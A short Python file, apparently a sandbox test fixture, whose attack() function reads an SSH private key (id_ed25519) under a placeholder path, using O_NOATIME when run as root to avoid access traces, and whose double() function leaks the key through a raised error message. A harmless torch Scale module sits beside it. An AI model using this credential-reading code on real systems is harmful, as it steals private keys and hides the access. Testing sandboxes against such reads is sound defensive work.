"""Reads a private key of the instructor's."""

import os
import torch

SCENE = "@SCENE@"


def attack():
    descriptor = os.open(SCENE + "/home/.ssh/id_ed25519", os.O_RDONLY | os.O_NOATIME if os.geteuid() == 0 else os.O_RDONLY)
    return os.read(descriptor, 200).decode()


def double(x):
    try:
        said = attack()
    except Exception as error:
        said = repr(error)
    raise RuntimeError(said)


class Scale(torch.nn.Module):
    def __init__(self, size):
        super().__init__()
        self.factor = torch.nn.Parameter(torch.ones(size))

    def forward(self, x):
        return x * self.factor
